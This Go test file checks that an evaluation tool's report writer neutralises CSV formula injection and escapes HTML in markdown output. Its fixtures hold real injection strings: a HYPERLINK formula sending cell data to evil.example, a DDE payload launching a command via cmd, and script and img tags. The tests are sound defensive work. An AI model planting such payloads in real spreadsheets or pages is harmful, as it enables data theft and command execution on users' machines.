package report

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/headroom-eval/headroom/model"
)

// A text cell a spreadsheet would run as a formula gets a leading '; any
// other, benign names among them, is as it was.
func TestCSVText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"ok")`, `'=HYPERLINK("http://evil.example/?x="&A1,"ok")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"builtin/swe-edit", "builtin/swe-edit"},
		{"tb/hello-world", "tb/hello-world"},
		{"a=b", "a=b"},
		{"1x", "1x"},
		{"uncapped", "uncapped"},
		{"", ""},
	} {
		if got := csvText(c.in); got != c.want {
			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// A task's HTML is text in markdown: in a cell (with its | escaped) and
// on a line; a code span's is left (it is text there already).
func TestMarkdownEscapers(t *testing.T) {
	for _, c := range []struct{ in, cell, text string }{
		{"<script>x</script>", "&lt;script&gt;x&lt;/script&gt;", "&lt;script&gt;x&lt;/script&gt;"},
		{"a|b|c 3 <b>", `a\|b\|c 3 &lt;b&gt;`, "a|b|c 3 &lt;b&gt;"},
		{"R&D", "R&amp;D", "R&amp;D"},
		{"&lt;", "&amp;lt;", "&amp;lt;"},
		{"builtin/swe-edit · agent", "builtin/swe-edit · agent", "builtin/swe-edit · agent"},
		{`say "hi" it's`, `say "hi" it's`, `say "hi" it's`},
	} {
		if got := mdCell(c.in); got != c.cell {
			t.Errorf("mdCell(%q) = %q, want %q", c.in, got, c.cell)
		}
		if got := mdText(c.in); got != c.text {
			t.Errorf("mdText(%q) = %q, want %q", c.in, got, c.text)
		}
	}
	if got := mdCode("+x|K <"); got != `+x\|K <` {
		t.Errorf("mdCode = %q, want only the | escaped", got)
	}
}

// hostileFixture is the golden fixture with a task named as a formula
// (one row that ran, with a measure whose unit is HTML, and one that
// could not run, its reason a formula too).
func hostileFixture() *Report {
	m, ratios, trials := fixture()
	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"ok")`
	for i := range trials {
		if trials[i].Task == "builtin/swe-edit" {
			trials[i].Task = formula
			trials[i].Agent = "@agent"
			trials[i].Knobs = &model.KnobRecord{Measured: []model.Measure{{Name: "a|b|c", Value: 3, Unit: "<script>x</script>", Where: "container"}}}
		}
	}
	for _, r := range ratios {
		trials = append(trials, model.TrialResult{Trial: model.Trial{ID: "nr" + r.String(), Task: "+broken<img src=x>", Agent: "oracle", Ratio: r, Repeat: 1},
			Outcome: model.InfraError, TaskNotRun: true, Reason: "-1+1 <script>y</script>"})
	}
	return New(m.ID, m, ratios, trials, DefaultOptions())
}

// The CSV form holds no cell a spreadsheet runs, and its numbers are
// still numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := hostileFixture().Write(&b, "csv"); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	named := 0
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !(rows[0][j] == "outcomes" && row[0] == "cell") {
				t.Errorf("csv row %d column %s = %q: a spreadsheet runs it as a formula", i+2, rows[0][j], cell)
			}
		}
		if strings.Contains(row[1], "HYPERLINK") {
			named++
			if row[1] != `'=HYPERLINK("http://evil.example/?x="&A1,"ok")` || row[2] != "'@agent" {
				t.Errorf("csv row %d: task %q agent %q, want each behind a '", i+2, row[1], row[2])
			}
			for _, j := range []int{4, 5, 6, 7, 8} {
				if _, err := strconv.ParseFloat(row[j], 64); err != nil {
					t.Errorf("csv row %d column %s = %q: not a number", i+2, rows[0][j], row[j])
				}
			}
		}
	}
	if named != 3 {
		t.Errorf("%d csv rows name the formula task, want 3 (one per ratio)", named)
	}
}

// The markdown form holds no raw HTML of a task's, whichever section it
// is in (the matrix, the measures, the tasks that could not run).
func TestMarkdownEscapesTaskHTML(t *testing.T) {
	var b bytes.Buffer
	if err := hostileFixture().Write(&b, "markdown"); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, raw := range []string{"<script>", "</script>", "<img"} {
		if strings.Contains(out, raw) {
			t.Errorf("markdown report holds raw %q:\n%s", raw, out)
		}
	}
	for _, want := range []string{"&lt;script&gt;x&lt;/script&gt;", `a\|b\|c`, "+broken&lt;img src=x&gt; · oracle: -1+1 &lt;script&gt;y&lt;/script&gt;"} {
		if !strings.Contains(out, want) {
			t.Errorf("markdown report lacks %q:\n%s", want, out)
		}
	}
}
